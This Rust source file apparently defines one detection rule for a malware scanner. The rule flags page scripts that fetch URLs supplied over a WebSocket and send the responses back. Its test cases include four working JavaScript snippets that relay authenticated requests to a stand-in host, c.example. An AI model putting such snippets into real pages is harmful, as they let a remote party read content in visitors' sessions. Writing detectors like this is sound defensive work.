//! `requests-made-for-socket`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::stream::Kind;
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "requests-made-for-socket",
    description: "The script fetches every URL that a socket names, in the visitor's session, and sends the responses back.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::MessageBody, Atom::Socket]), one(&[Atom::Request])],
    within: 120,
    only_if: Some(relays),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            r#"const s=new WebSocket('wss://c.example/w');s.onmessage=async e=>{const a=e.data;try{const r=await fetch(a);const t=await r.text();s.send(a+t.slice(0,900))}catch(x){}}"#,
            r#"var w=new WebSocket('wss://c.example');w.onmessage=e=>{const j=JSON.parse(e.data);fetch(j.url,{credentials:'include'}).then(r=>r.text()).then(t=>w.send(JSON.stringify({id:j.id,t})))}"#,
            r#"const w=new WebSocket('wss://c.example');w.onmessage=({data})=>{const{id,url}=JSON.parse(data);fetch(url,{credentials:'include'}).then(r=>r.arrayBuffer()).then(b=>w.send(JSON.stringify({id,b:btoa(String.fromCharCode(...new Uint8Array(b)))})))}"#,
            r#"var w=new WebSocket('wss://c.example');w.onmessage=async e=>{const r=await fetch(e.data);w.send(await r.text())}"#,
        ],
        without: &[
            r#"const s=new WebSocket('wss://feed.example/w');s.onmessage=async e=>{const a=e.data;const r=await fetch(a);show(await r.text());s.send('seen')}"#,
            r#"const s=new WebSocket('ws://localhost:9009');s.onmessage=async e=>{const r=await fetch(e.data);s.send(await r.text())}"#,
            r#"const s=new WebSocket('wss://feed.example/w');s.onmessage=async e=>{const r=await fetch('/state');const t=await r.text();s.send(t)}"#,
        ],
    },
};

fn relays(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 100);
    let asked = near
        .words(&["fetch"])
        .any(|at| near.is(at + 1, b'(') && near.kind(at + 2) == Some(Kind::Name) && is_told(near, at + 2));
    asked && answers(near) && is_of_stranger(Near::new(evidence, held, 500))
}

/// Whether an address is what a socket said: `e.data`, or a name that it was put into.
fn is_told(near: Near<'_>, at: usize) -> bool {
    let name = near.word(at);
    if near.word(at + 1) == "data" {
        return true;
    }
    near.places().any(|set| {
        near.kind(set) == Some(Kind::Name)
            && near.word(set) == name
            && is_given(near, set)
            && (set + 2..set + 16).any(|at| {
                near.word(at) == "data"
                    && (near.kind(at) == Some(Kind::Member) || near.before(at, 2) == "parse")
            })
    })
}

/// Whether a name is given a value: `url = …`, `{id, url} = …`.
fn is_given(near: Near<'_>, at: usize) -> bool {
    let end = (at + 1..at + 10).find(|at| !near.is(*at, b',') && near.kind(*at) != Some(Kind::Name));
    near.is(at + 1, b'=') || end.is_some_and(|end| near.is(end, b'}') && near.is(end + 1, b'='))
}

/// Whether the text of an answer is part of what is sent.
fn answers(near: Near<'_>) -> bool {
    let is_text = |at: usize| {
        matches!(near.word(at), "text" | "json" | "arrayBuffer")
            && near.is(at + 1, b'(')
            && near.is(at + 2, b')')
    };
    let answered = |name: &str| {
        near.places().any(|set| {
            near.kind(set) == Some(Kind::Name)
                && near.word(set) == name
                && (near.is(set + 1, b'=') && (set + 2..set + 10).any(is_text)
                    || (2..4).any(|back| near.word(set.wrapping_sub(back)) == "then")
                        && (set.saturating_sub(10)..set).any(is_text))
        })
    };
    near.words(&["send", "emit"]).any(|at| {
        near.is(at + 1, b'(')
            && (at + 2..at + 26)
                .take_while(|at| !near.is(*at, b';'))
                .any(|at| is_text(at) || near.kind(at) == Some(Kind::Name) && answered(near.word(at)))
    })
}

/// Whether a socket leads to another machine than this one.
fn is_of_stranger(near: Near<'_>) -> bool {
    near.has_word(&["WebSocket"])
        && near.texts().any(|(_, text)| {
            let host = ["wss://", "ws://"].iter().find_map(|scheme| text.strip_prefix(scheme));
            host.is_some_and(|host| {
                host.len() > 2
                    && !["localhost", "127.", "0.0.0.0", "[::1]"].iter().any(|own| host.starts_with(own))
            })
        })
}
